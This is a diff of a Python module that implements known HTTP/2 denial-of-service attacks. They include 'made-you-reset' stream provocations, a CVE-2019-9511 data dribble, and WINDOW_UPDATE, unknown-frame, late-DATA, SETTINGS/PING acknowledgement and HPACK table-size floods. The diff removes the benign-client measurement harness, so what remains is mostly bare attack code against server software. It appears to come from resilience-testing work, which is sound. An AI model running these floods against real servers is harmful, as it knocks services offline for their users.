@@ -1,29 +1,14 @@
-"""Known attacks on HTTP/2, each a bounded run on one connection or a few, beside a client that behaves.
+"""Known attacks on HTTP/2: floods of frames that cost the receiver more than the sender."""
 
-    http2_attacks.py HOST PORT PATH CERTIFICATE PROCESS_ID [NAME…]
-
-Prints one JSON document a line: {"attack", "ended", "mebibytes": {"before", "most", "after"}, "p99_ms": {"quiet",
-"beside"}, "failed"}; `ended` says how the attacker was stopped, `failed` counts the behaving client's failures.
-"""
-
-import json
-import os
 import struct
-import sys
-import threading
 import time
 
+from attacking import ATTACKS, attack
 from raw_http2 import *  # noqa: F403  (the names of the protocol)
-from raw_http2 import Broken, Connection, Target
+from raw_http2 import Connection
 
 SECONDS_MAX = 3
 FRAMES_MAX = 20_000
-ATTACKS = {}
-
-
-def attack(function):
-    ATTACKS[function.__name__.replace("_", "-")] = function
-    return function
 
 
 def verdict(connection, send, frames_max=FRAMES_MAX, wait_seconds=SECONDS_MAX):
@@ -87,10 +72,52 @@ def _wrong_priority(connection, target, stream):
     connection.frame(PRIORITY, 0, stream, b"\0\0\0\0")
 
 
+def _priority_of_itself(connection, target, stream):
+    connection.get(stream)
+    connection.frame(PRIORITY, 0, stream, struct.pack(">IB", stream, 16))
+
+
+def _data_after_the_end(connection, target, stream):
+    connection.get(stream)
+    connection.frame(DATA, END_STREAM, stream, b"late")
+
+
+def _headers_after_the_end(connection, target, stream):
+    connection.get(stream)
+    connection.headers(stream, [("x-late", "a")])
+
+
+def _trailers_without_end(connection, target, stream):
+    connection.headers(stream, target.request("POST"), END_HEADERS)
+    connection.headers(stream, [("x-trailer", "a")], END_HEADERS)
+
+
+def _beyond_the_window(connection, target, stream):
+    connection.headers(stream, target.request("POST"), END_HEADERS)
+    for _ in range(5):
+        connection.frame(DATA, 0, stream, b"x" * 16384)
+
+
+def _too_many_fields(connection, target, stream):
+    connection.headers(stream, target.request(extra=[("x", "a")] * 120))
+
+
+def _other_host(connection, target, stream):
+    connection.headers(stream, target.request(extra=[("host", "elsewhere.example")]))
+
+
+def _underscore(connection, target, stream):
+    connection.headers(stream, target.request(extra=[("x_real_ip", "a")]))
+
+
 for _name, _provocation in [
         ("made-you-reset-window-0", _empty_window_update), ("made-you-reset-overflow", _window_overflow),
         ("made-you-reset-length", _length_mismatch), ("made-you-reset-field", _forbidden_field),
-        ("made-you-reset-priority", _wrong_priority)]:
+        ("made-you-reset-priority", _wrong_priority), ("made-you-reset-itself", _priority_of_itself),
+        ("made-you-reset-late-data", _data_after_the_end), ("made-you-reset-late-headers", _headers_after_the_end),
+        ("made-you-reset-trailers", _trailers_without_end), ("made-you-reset-flow", _beyond_the_window),
+        ("made-you-reset-431", _too_many_fields), ("made-you-reset-host", _other_host),
+        ("made-you-reset-underscore", _underscore)]:
     ATTACKS[_name] = _provoke(_provocation)
 
 
@@ -194,73 +221,59 @@ def streams_without_end(target):
         return verdict(connection, send, frames_max=3000)
 
 
-def resident_mebibytes(process):
-    with open(f"/proc/{process}/status", encoding="ascii") as status:
-        return next(int(line.split()[1]) / 1024 for line in status if line.startswith("VmRSS:"))
+@attack
+def data_dribble(target):
+    """CVE-2019-9511: windows that are opened byte by byte."""
+    with Connection(target, [(INITIAL_WINDOW_SIZE, 0)]).greeted() as connection:
+        for stream in range(1, 100, 2):
+            connection.get(stream, path="/openapi.json")
+        return verdict(
+            connection, lambda number: connection.frame(WINDOW_UPDATE, 0, 2 * (number % 50) + 1, struct.pack(">I", 1)))
 
 
-class Behaving(threading.Thread):
-    """One request after the other on a connection of its own."""
-
-    def __init__(self, target):
-        super().__init__(daemon=True)
-        self._target, self._ended = target, threading.Event()
-        self.seconds, self.failed = [], 0
-
-    def run(self):
-        connection, stream = None, 1
-        while not self._ended.is_set():
-            try:
-                if connection is None:
-                    connection, stream = Connection(self._target).greeted(), 1
-                began = time.monotonic()
-                connection.get(stream)
-                if connection.answered(stream) != 200:
-                    raise Broken("no 200")
-                self.seconds.append(time.monotonic() - began)
-                connection.heard.clear()
-                stream += 2
-                time.sleep(0.002)
-            except (Broken, OSError):
-                self.failed += 1
-                connection = None
-
-    def end(self):
-        self._ended.set()
-        self.join()
-        ordered = sorted(self.seconds)
-        return round(ordered[min(len(ordered) - 1, int(len(ordered) * 0.99))] * 1000, 2) if ordered else None
+@attack
+def window_update_flood_on_streams(target):
+    with Connection(target).greeted() as connection:
+        for stream in range(1, 100, 2):
+            connection.headers(stream, target.request("POST"), END_HEADERS)
+        return verdict(
+            connection, lambda number: connection.frame(WINDOW_UPDATE, 0, 2 * (number % 50) + 1, struct.pack(">I", 1)))
 
 
-def measured(target, process, name, run):
-    quiet = Behaving(target)
-    quiet.start()
-    time.sleep(0.3)
-    quiet_p99 = quiet.end()
-    before = most = resident_mebibytes(process)
-    beside = Behaving(target)
-    beside.start()
-    result = {}
-    attackers = [threading.Thread(target=lambda: result.setdefault("ended", run(target)), daemon=True) for _ in range(4)]
-    for attacker in attackers:
-        attacker.start()
-    while any(attacker.is_alive() for attacker in attackers):
-        most = max(most, resident_mebibytes(process))
-        time.sleep(0.02)
-    beside_p99 = beside.end()
-    return {"attack": name, "ended": result.get("ended", "failed"),
-            "mebibytes": {"before": round(before, 1), "most": round(most, 1),
-                          "after": round(resident_mebibytes(process), 1)},
-            "p99_ms": {"quiet": quiet_p99, "beside": beside_p99}, "failed": quiet.failed + beside.failed}
+@attack
+def unknown_frame_flood(target):
+    """Types that mean nothing are skipped (RFC 9113, section 5.5)."""
+    with Connection(target).greeted() as connection:
+        return verdict(connection, lambda number: connection.frame(0x0A + number % 0xF0, 0xFF, number, b"x" * 100))
 
 
-def main():
-    host, port, path, certificate, process = sys.argv[1:6]
-    target = Target(host, int(port), certificate=certificate, path=path)
-    for name in sys.argv[6:] or ATTACKS:
-        print(json.dumps(measured(target, int(process), name, ATTACKS[name])), flush=True)
+@attack
+def late_data_flood(target):
+    """DATA of a stream that is over."""
+    with Connection(target).greeted() as connection:
+        connection.headers(1, target.request("POST"), END_HEADERS)
+        connection.frame(RST_STREAM, 0, 1, struct.pack(">I", CANCEL))
+        return verdict(connection, lambda number: connection.frame(DATA, 0, 1, b"x" * 1000))
 
 
-if __name__ == "__main__":
-    os.environ.pop("SSLKEYLOGFILE", None)
-    main()
+@attack
+def settings_acknowledgement_flood(target):
+    """Acknowledgements of nothing."""
+    with Connection(target).greeted() as connection:
+        return verdict(connection, lambda number: connection.frame(SETTINGS, ACK))
+
+
+@attack
+def ping_acknowledgement_flood(target):
+    with Connection(target).greeted() as connection:
+        return verdict(connection, lambda number: connection.frame(PING, ACK, 0, b"12345678"))
+
+
+@attack
+def table_size_flood(target):
+    """Blocks that do little but resize the table of fields."""
+    with Connection(target).greeted() as connection:
+        def send(number):
+            connection.frame(HEADERS, END_STREAM | END_HEADERS, 2 * number + 1, b"\x20\x3f\xe1\x1f" * 4000
+                             + connection.block(target.request()))
+        return verdict(connection, send, frames_max=2000)
